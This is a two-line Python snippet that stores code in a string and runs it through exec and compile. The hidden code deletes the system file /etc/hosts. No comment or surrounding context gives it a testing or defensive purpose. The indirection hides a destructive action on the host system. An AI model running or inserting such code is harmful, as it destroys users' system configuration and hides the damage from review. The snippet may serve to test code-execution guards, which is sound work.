src = "import os\nos.remove('/etc/hosts')"
exec(compile(src, "<x>", "exec"))
